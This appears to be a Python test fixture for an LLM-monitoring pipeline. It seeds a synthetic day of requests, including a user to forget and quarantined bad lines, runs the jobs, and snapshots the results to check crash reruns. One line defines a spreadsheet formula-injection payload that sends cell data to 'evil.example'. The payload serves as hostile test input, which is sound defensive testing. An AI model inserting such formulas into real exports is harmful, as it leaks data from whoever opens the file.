"""A small, realistic day for the fault suite: two hours of requests (one user to forget, one
hostile prompt, one quarantined line of that user), feedback and events, run through the real
hourly and daily jobs. Plus a normalised snapshot of the store and warehouse, to check that a
rerun after a crash converges to the clean result."""

from __future__ import annotations

import gzip
import hashlib
import json
import shutil
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import sqlalchemy as sa

from tests.conftest import make_config
from tests.factories import hour_key, lines, put_jsonl, request

DAY = date(2026, 11, 3)
HOURS = (datetime(2026, 11, 3, 9, tzinfo=UTC), datetime(2026, 11, 3, 10, tzinfo=UTC))
VICTIM = "victim-42"
SECRET_PROMPT = "my secret plan for the merger, codename BLUEFINCH"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def records(hour: datetime, start: int) -> list[dict[str, Any]]:
    out = []
    for i in range(12):
        ts = hour + timedelta(seconds=30 + 290 * i)
        rec = request(start + i, ts, model=("m-a", "m-b")[i % 2], session_id=f"s{i % 4}",
                      app=("chat", "search")[i % 2])
        if i in (0, 5):
            rec["user_id"] = VICTIM
            rec["input"]["messages"] = [{"role": "user", "content": f"{SECRET_PROMPT} #{start + i}"}]
        if i == 3:
            rec["input"]["messages"] = [{"role": "user", "content": FORMULA}]
        out.append(rec)
    return out


def seed(store: Any) -> None:
    """Raw requests (plain + gzip), feedback, events, and one bad line of the victim per hour."""
    for n, hour in enumerate(HOURS):
        recs = records(hour, 100 * n)
        put_jsonl(store, hour_key(hour, "part-0.jsonl"), lines(recs[:6]))
        bad = json.dumps({"request_id": f"bad-{n}", "timestamp": (hour + timedelta(minutes=1)).isoformat(),
                          "user_id": VICTIM, "status": 7,
                          "input": {"messages": [{"role": "user", "content": SECRET_PROMPT}]}}).encode()
        put_jsonl(store, hour_key(hour, "part-1.jsonl.gz"), lines(recs[6:]) + [bad], gz=True)
        fb = [{"request_id": f"req-{100 * n + i}", "timestamp": (hour + timedelta(minutes=10 + i)).isoformat(),
               "user_id": recs[i]["user_id"], "thumbs": "up" if i % 3 else "down", "rating": 4}
              for i in range(6)]
        put_jsonl(store, f"raw/feedback/dt={DAY}/hour={hour:%H}/fb.jsonl", lines(fb))
        ev = [{"event_id": f"e{n}-{i}", "timestamp": (hour + timedelta(minutes=20 + i)).isoformat(),
               "session_id": f"s{i}", "user_id": "u", "type": t, "value": 50.0 if t == "conversion" else None}
              for i, t in enumerate(["session_start", "task_completed", "conversion"])]
        put_jsonl(store, f"raw/events/dt={DAY}/hour={hour:%H}/ev.jsonl", lines(ev))


def config(store_url: str, wh_url: str, endpoint: str | None = None):
    cfg = make_config(store_url, wh_url, endpoint)
    cfg.quality = {"review": {"sample_per_model": 50}}  # every candidate: the hostile rows are in it
    return cfg


class Site:
    """A store folder and a SQLite warehouse that can be copied as a unit."""

    def __init__(self, root: Path):
        from llmmon.store.objects import LocalStore

        self.root = root
        self.store = LocalStore(root / "store")
        self.wh = f"sqlite:///{root / 'wh.db'}"

    def ctx(self) -> Any:
        from llmmon.context import Context

        return Context.from_config(config(self.store.url, self.wh))

    def copy(self, to: Path) -> Site:
        shutil.copytree(self.root, to)
        return Site(to)

    def env(self, monkeypatch: Any) -> None:
        """Point the ``llmmon`` CLI at this site."""
        monkeypatch.setenv("LLMMON_STORAGE_URL", self.store.url)
        monkeypatch.setenv("LLMMON_WAREHOUSE_URL", self.wh)

    def close(self) -> None:
        from llmmon.store import warehouse

        eng = warehouse._ENGINES.pop(self.wh, None)
        if eng is not None:
            eng.dispose()


def run_day(ctx: Any) -> None:
    """What ``llmmon run-day`` does for DAY."""
    from llmmon.daily.run import run_daily
    from llmmon.hourly.run import run_hours
    from llmmon.hourly.window import Window

    run_hours(ctx, Window.day(DAY), job="daily")
    run_daily(ctx, DAY)


# ---- snapshots ------------------------------------------------------------------------------

VOLATILE = {"generated_at", "duration_s", "recorded_at", "started_at", "finished_at", "run_id",
            "report_url",  # a presigned link on S3
            "arrived", "lateness_minutes"}  # when this copy of the data was written


# How late a partition arrived depends on when this copy of the data was written, not on the run.
ARRIVAL = {"arrived", "lateness_minutes", "observed", "score", "summary", "value", "top_segments"}


def _scrub(x: Any) -> Any:
    if isinstance(x, dict):
        late = "late_partition" in (x.get("kind"), x.get("rule"))
        return {k: _scrub(v) for k, v in x.items() if k not in VOLATILE and not (late and k in ARRIVAL)}
    if isinstance(x, list):
        return [_scrub(v) for v in x]
    return x


def store_snapshot(store: Any, skip: tuple[str, ...] = ("audit/", "retention/", "work/")) -> dict[str, str]:
    """key -> digest of the content (JSON without run timestamps; whylogs profiles by their counts)."""
    from llmmon.lifecycle.retention import view_counts
    from llmmon.store.profiles import deserialize

    out = {}
    for o in store.list(""):
        if o.key.startswith(skip) or o.key.endswith((".retention", ".html", ".pdf")):
            continue
        data = store.get(o.key).replace(store.url.encode(), b"<store>")  # links name the store
        if o.key.endswith(".json"):
            data = json.dumps(_scrub(json.loads(data)), sort_keys=True).encode()
        elif o.key.endswith(".jsonl"):
            data = b"\n".join(json.dumps(_scrub(json.loads(x)), sort_keys=True).encode()
                              for x in data.splitlines() if x.strip())
        elif o.key.endswith(".json.gz"):
            data = json.dumps(_scrub(json.loads(gzip.decompress(data))), sort_keys=True).encode()
        elif o.key.endswith(".bin"):
            data = json.dumps(view_counts(deserialize(data)), sort_keys=True).encode()
        out[o.key] = hashlib.sha256(data).hexdigest()[:16]
    return out


def warehouse_snapshot(engine: sa.Engine) -> dict[str, list[tuple]]:
    """Metric values and run counts of the day (what a dashboard reads)."""
    out: dict[str, list[tuple]] = {}
    with engine.connect() as conn:
        out["metrics"] = sorted((str(r.window_start)[:19], r.grain, r.model, r.metric,
                                 None if r.value is None else round(float(r.value), 9))
                                for r in conn.execute(sa.text(
                                    "SELECT window_start, grain, model, metric, value FROM metrics")))
        out["runs"] = sorted((r.run_id, r.read, r.accepted, r.quarantined)
                             for r in conn.execute(sa.text("SELECT run_id, read, accepted, quarantined FROM runs")))
    return out
